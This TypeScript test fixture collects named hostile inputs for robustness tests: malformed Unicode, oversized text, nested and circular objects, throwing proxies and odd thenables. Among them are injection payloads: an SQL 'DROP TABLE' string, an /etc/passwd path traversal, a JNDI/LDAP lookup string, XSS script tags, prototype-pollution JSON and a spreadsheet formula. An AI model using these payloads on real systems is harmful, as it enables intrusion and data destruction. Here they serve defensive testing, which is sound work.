const MARKS = '\u0300\u0301\u0316\u0327\u0334\u0345\u0489\u064b\u05b0\u3099\u20dd\u1dce\u0f71'
/** Letters and words of every script with names, including scripts without spaces or from right to left. */
const SCRIPTS = [
  ...'Отель Ξενοδοχείο فندق מלון होटल হোটেল ਹੋਟਲ હોટેલ ହୋଟେଲ ஹோட்டல் హోటల్ ಹೋಟೆಲ್ ഹോട്ടൽ හෝටලය โรงแรม ໂຮງແຮມ ဟိုတယ် სასტუმრო'.split(
    ' ',
  ),
  ...'ሆቴል សណ្ឋាគារ ᠪᠤᠳᠠᠯ ホテル 酒店 호텔 ᎰᏖᎵ ᐅᓪᓗᐱᒃ ⵀⵓⵟⵉⵍ ޙޮޓާ ሆ ངལ་གསོ ꦲꦺꦴ ꯍꯣꯇꯦꯜ 𐌰𐌱 𒀀𒀁 𓀀𓀁 Հյուրանոց'.split(' '),
]

class Unusual {
  readonly name = 'Quxwelby'
  readonly #hidden = 1
  get hidden(): number {
    return this.#hidden
  }
}

/**
 * Values of an attacker or a broken program. They have names, so that a test can print a failing record. Each call
 * creates a new value, since some values can be read only once.
 */
export const HOSTILE_VALUES: Readonly<Record<string, () => unknown>> = {
  ...hostileTexts(),
  ...hostileNumbers(),
  ...hostileObjects(),
  ...hostileReaders(),
}

/** The names of the values that change with each read. With these values, a second import may differ from the first. */
export const CHANGING_VALUES: ReadonlySet<string> = new Set(['a getter that counts', 'an iterator that is read once'])

function hostileTexts(): Record<string, () => unknown> {
  const texts: Record<string, string> = {
    nothing: '',
    'white space': ' \t\n\u00a0\u3000',
    'a lone high surrogate': 'Hotel \ud83d Ritz',
    'a lone low surrogate': '\udc00',
    'surrogates the wrong way round': '\udc00\ud83d'.repeat(50),
    NUL: 'Ho\u0000tel',
    'every control character': Array.from({ length: 32 }, (_, at) => String.fromCharCode(at)).join('x'),
    'C1 controls': '\u0080\u0085\u009f Ritz',
    'line separators': 'Ritz\u2028Paris\u2029',
    'bidi overrides': '\u202eztiR letoH\u202c \u2067Ritz\u2069',
    'invisible characters': 'R\u200bi\u2060t\ufeffz\u00ad \u200d\u200c',
    'tag characters': `Ritz${String.fromCodePoint(0xe0001, 0xe0061, 0xe007f)}`,
    'private use and noncharacters': '\ue000\ufffe\uffff\ufdd0 Ritz \u{10ffff}',
    zalgo: `R${MARKS.repeat(250)}i${MARKS.repeat(250)}tz`,
    'zalgo in the wrong order': `Ritz${'\u0334'.repeat(1)}${'\u0301\u0316'.repeat(5_000)}`,
    'marks alone': MARKS.repeat(300),
    'a mark on each letter': 'e\u0301'.repeat(2_000),
    'Hangul in pieces': '\u1112\u1169\u1110\u1166\u11af'.repeat(1_000),
    'a ligature that unfolds': '\ufdfa'.repeat(500),
    'letters that grow when folded': 'ŉßİﬃ'.repeat(1_000),
    'Turkish i': 'İIıi'.repeat(100),
    'letters beyond the first plane': '𠮷𝓗𝓸𝓽𝓮𝓵'.repeat(300),
    'full width': 'Ｈｏｔｅｌ　Ｒｉｔｚ　１２',
    'emoji sequences': '👨‍👩‍👧‍👦🏳️‍🌈🇫🇷1️⃣👍🏽'.repeat(200),
    'one flag too many': '🇫🇷🇫',
    'every script': SCRIPTS.join(' '),
    'scripts without spaces': '東京ホテル酒店โรงแรม'.repeat(300),
    'a name of 10 kB': 'Hotel Quxwelby an der Zentra '.repeat(350),
    'a name of a megabyte': 'Quxwelby '.repeat(110_000),
    'many different words': Array.from({ length: 2_000 }, (_, at) => `qux${(at * 7_919).toString(36)}welby`).join(' '),
    'a word of 10 kB': 'quxwelby'.repeat(1_250),
    'words of sixty letters': Array.from({ length: 40 }, (_, at) => `${'quxwelbyzen'.repeat(5)}${at}abcd`).join(' '),
    'one letter words': 'a b c d e f g h '.repeat(1_000),
    'spaces within': `Ritz${' '.repeat(10_000)}Paris`,
    'spaces and an end': `${' '.repeat(10_000)}x`,
    'line ends': 'Ritz\r\n'.repeat(3_000),
    commas: ','.repeat(10_000),
    'separators and spaces': ' ;  | '.repeat(3_000),
    slashes: `http://ritz.example/${'/'.repeat(9_000)}x`,
    dots: `a@${'.'.repeat(5_000)}b.`,
    'a long domain': `http://${'a.'.repeat(5_000)}example/`,
    'at signs': 'a@b.'.repeat(3_000),
    'ten thousand digits': '1234567890'.repeat(1_000),
    'five digits and five digits': '12345 '.repeat(2_000),
    'digits without a letter': '99 / 12345 - '.repeat(800),
    brackets: '('.repeat(5_000) + ')'.repeat(5_000),
    quotes: `"'\`´’`.repeat(500),
    possessives: "Sandy's ".repeat(1_000),
    stars: '*'.repeat(5_000),
    'stars that make stars': 'Ritz 4 *** * 5 **** *',
    'stars of all kinds': '★☆* 4,5* ****S 7 ★'.repeat(300),
    'a page of entities': '&eacute;&#233;&#xe9;'.repeat(1_000),
    'entities escaped ten thousand times': `&${'amp;'.repeat(10_000)}lt;b&gt;`,
    'entities by number': `&${'#38;'.repeat(2_000)}${'#x26;'.repeat(2_000)}lt;`,
    'entities that end one another': `Ritz &lt${'&semi'.repeat(2_000)};`,
    'entities that are none': '&#x110000;&#55357;&#0;&#9999999;&notit;&;'.repeat(100),
    'an entity cut by something invisible': 'Ritz &a\u200bmp;amp; Paris <\u200bb>',
    'a misread entity': 'CafÃ© &Atilde;&copy; Ritz',
    'an entity of half a surrogate pair': '&#xd83d; Ritz',
    'tags within tags': `${'<a'.repeat(3_000)}${'>'.repeat(3_000)}`,
    'tags without an end': '<a href="'.repeat(1_000),
    'a tag that a tag hides': 'Ritz <scr<script>ipt>alert(1)</scr</script>ipt>',
    markup: '<script>alert("x")</script><img src=x onerror=alert(1)>',
    'misread three times': misread(misread(misread('Hôtel Métropole'))),
    'misread many times': misread(misread(misread(misread(misread('é'))))).repeat(20),
    'misread, then not': `${'Ã©'.repeat(600)} 酒店`,
    'punctuation, then a word': `${'- '.repeat(1_500)}Ritz`,
    'an emoji, then a word': `${'🏨'.repeat(2_500)}Ritz`,
    'a dash': '-',
    'n/a': 'n/a',
    'null as text': 'null',
    'undefined as text': 'undefined',
    'NaN as text': 'NaN',
    'object as text': '[object Object]',
    'a key of the prototype': '__proto__',
    'a method of objects': 'hasOwnProperty',
    constructor: 'constructor',
    toString: 'toString valueOf isPrototypeOf',
    JSON: '{"name":{"$gt":""},"__proto__":{"polluted":1}}',
    SQL: "'; DROP TABLE records; --",
    'a formula': '=HYPERLINK("http://x.example","Ritz")',
    'a path': '../../../../etc/passwd\u0000.jpg',
    'a format': '%s%n%x$\u007bjndi:ldap://x.example}{{7*7}}',
    'a pattern': '(a+)+$^.*[\\',
    'a terminal sequence': '\u001b[2J\u001b]0;x\u0007Ritz',
  }
  return Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, () => text]))
}

/** Returns the UTF-8 bytes of a text, read as Latin-1. */
function misread(text: string): string {
  return Buffer.from(text).toString('latin1')
}

function hostileNumbers(): Record<string, () => unknown> {
  return {
    NaN: () => Number.NaN,
    infinity: () => Number.POSITIVE_INFINITY,
    'minus infinity': () => Number.NEGATIVE_INFINITY,
    'minus zero': () => -0,
    'the largest number': () => Number.MAX_VALUE,
    'the smallest number': () => Number.MIN_VALUE,
    'a number past exactness': () => 2 ** 53 + 2,
    'a BigInt': () => 10n,
    'a BigInt of 10,000 digits': () => 10n ** 10_000n,
    'a number as text': () => ' 4 ',
    'a number beyond numbers as text': () => '1e400',
    'a hexadecimal number as text': () => '0x1F',
    'full width digits': () => '４５',
    'Arabic digits': () => '٤٥',
    'a minus zero as text': () => '-0',
    'a date as a number': () => 1_700_000_000_000,
    'coordinates of minus zero': () => [-0, 2.35],
    'coordinates of NaN': () => [Number.NaN, 2],
    'coordinates beyond the earth': () => [91, 181],
    'coordinates as text': () => ['48,85', '2,35'],
    'three coordinates': () => [1, 2, 3],
    'the north pole': () => [90, 180],
  }
}

function hostileObjects(): Record<string, () => unknown> {
  return {
    null: () => null,
    undefined: () => undefined,
    true: () => true,
    'a symbol': () => Symbol('x'),
    'a function': () => () => 'Ritz',
    'a class': () => Unusual,
    'an instance of a class': () => new Unusual(),
    'a date': () => new Date(0),
    'no date': () => new Date(Number.NaN),
    'a map': () => new Map([['name', 'Ritz']]),
    'a set': () => new Set(['Ritz']),
    'a weak map': () => new WeakMap(),
    'a pattern as an object': () => /x/g,
    'an error': () => new Error('x'),
    bytes: () => new Uint8Array(10_000),
    'an empty buffer': () => new ArrayBuffer(8),
    'a boxed text': () => new String('Ritz'),
    'a boxed number': () => new Number(Number.NaN),
    'no prototype': () => Object.assign(Object.create(null), { name: 'Ritz', city: 'Paris' }),
    'a frozen object': () => Object.freeze({ name: 'Ritz' }),
    'keys of the prototype': () =>
      JSON.parse(
        '{"__proto__":{"polluted":1,"city":"Evil"},"constructor":{"prototype":{"polluted":1}},"prototype":{"polluted":1}}',
      ),
    'an empty list': () => [],
    'a list of one text': () => ['Ritz'],
    'a list of everything': () => [null, undefined, 1, 'Ritz', {}, [], Symbol('x'), () => 1, 10n, Number.NaN],
    'a list of 10,000': () => Array.from({ length: 10_000 }, (_, at) => at),
    'a list of 10,000 objects': () =>
      Array.from({ length: 10_000 }, (_, at) => ({ name: `Quxwelby ${at}`, scheme: 'x', value: `${at}` })),
    'a list of 10,000 texts': () => Array.from({ length: 10_000 }, (_, at) => `Quxwelby ${at}`),
    'a list with holes': () => {
      const list: unknown[] = []
      list[9_999] = 'Ritz'
      return list
    },
    'a list of four thousand million holes': () => new Array(2 ** 32 - 1),
    'an object of 10,000 keys': () => Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`key${at}`, at])),
    'an object with long and odd keys': () => ({
      ['k'.repeat(10_000)]: 1,
      '': 1,
      '\u0000': 1,
      '\ud83d': 1,
      '\udc00': 2,
      '💩': 1,
      'a.b': { '..': 1 },
      toJSON: 1,
      length: -1,
    }),
    'text within that is not well-formed': () => ({ a: '\ud83d\u0000', b: ['\udc00', 'a\u0000b'] }),
    'odd numbers within': () => ({ a: -0, b: Number.NaN, c: 1e21, d: 2 ** 53, e: 1n, f: [Number.POSITIVE_INFINITY] }),
    'a circle': () => {
      const circle: Record<string, unknown> = { good: 1 }
      circle.self = circle
      return circle
    },
    'a list in itself': () => {
      const list: unknown[] = [1]
      list.push(list)
      return list
    },
    'one thing in many places': () => {
      let each: unknown = 'Ritz'
      for (let level = 0; level < 40; level++) each = [each, each]
      return each
    },
    '60 levels': () => nested(60, (inner) => ({ in: inner })),
    '500 levels': () => nested(500, (inner) => ({ in: inner })),
    '3,000 levels of lists': () => nested(3_000, (inner) => [inner]),
    '10,000 levels': () => nested(10_000, (inner) => ({ in: inner })),
    '10,000 levels of lists': () => nested(10_000, (inner) => [inner]),
  }
}

function nested(levels: number, wrap: (inner: unknown) => unknown): unknown {
  let each: unknown = 1
  for (let level = 0; level < levels; level++) each = wrap(each)
  return each
}

/** Returns a value that `await` treats as a promise. */
function withThen(then: (...args: never[]) => unknown): object {
  return Object.defineProperty({ name: 'Ritz' }, 'then', { value: then, enumerable: true, configurable: true })
}

function hostileReaders(): Record<string, () => unknown> {
  const fail = (): never => {
    throw new Error('not plain data')
  }
  const traps = (trap: () => never): ProxyHandler<object> =>
    Object.fromEntries(
      'get has ownKeys getOwnPropertyDescriptor getPrototypeOf isExtensible'.split(' ').map((each) => [each, trap]),
    )
  const getter = (get: () => unknown): object =>
    Object.defineProperties(
      {},
      Object.fromEntries(
        'name city value scheme address code coordinates from lat ref extra'
          .split(' ')
          .map((key) => [key, { get, enumerable: true, configurable: true }]),
      ),
    )
  return {
    'a getter that throws': () => getter(fail),
    'a getter that throws nothing': () =>
      getter(() => {
        throw undefined
      }),
    'a getter that throws an odd error': () =>
      getter(() => {
        throw Object.defineProperty(new Error('x'), 'message', { get: fail })
      }),
    'a getter that throws an error with an odd message': () =>
      getter(() => {
        throw Object.assign(new Error('x'), { message: Symbol('x') })
      }),
    'a getter that throws a proxy': () =>
      getter(() => {
        throw new Proxy({}, traps(fail))
      }),
    'a getter that counts': () => {
      let count = 0
      return getter(() => (count++ % 2 === 0 ? 'Quxwelby' : count))
    },
    'a proxy that throws': () => new Proxy({}, traps(fail)),
    'a proxy of a list that throws': () => new Proxy([1, 2], traps(fail)),
    'a revoked proxy': () => {
      const { proxy, revoke } = Proxy.revocable({}, {})
      revoke()
      return proxy
    },
    'a proxy that has everything': () => new Proxy({}, { get: () => 'Ritz', has: () => true }),
    'a proxy of endless depth': () => {
      const deeper = (): object =>
        new Proxy(
          {},
          {
            get: (_target, key) => (typeof key === 'string' && key.length < 9 ? deeper() : undefined),
            ownKeys: () => ['a', 'b'],
            getOwnPropertyDescriptor: () => ({ value: 1, enumerable: true, configurable: true }),
          },
        )
      return deeper()
    },
    'a list without an end': () =>
      new Proxy([], { get: (_target, key) => (key === 'length' ? 2 ** 53 - 1 : key === 'slice' ? fail : 'Ritz') }),
    'toJSON that throws': () => ({ toJSON: fail }),
    'toJSON that answers itself': () => {
      const self: Record<string, unknown> = { a: 1 }
      self.toJSON = () => ({ self })
      return self
    },
    'toJSON that answers a function': () => ({ toJSON: () => () => 1 }),
    'toString that throws': () => ({ toString: fail, valueOf: fail }),
    'a conversion that throws': () => ({ [Symbol.toPrimitive]: fail }),
    'a promise': () => Promise.resolve('Ritz'),
    'a then that never answers': () => withThen(() => undefined),
    'a then that throws': () => withThen(fail),
    'a then that refuses': () => withThen((_ok: unknown, refuse: (reason: unknown) => void) => refuse('no')),
    'an iterator that is read once': () =>
      (function* once() {
        yield 'Ritz'
      })(),
  }
}
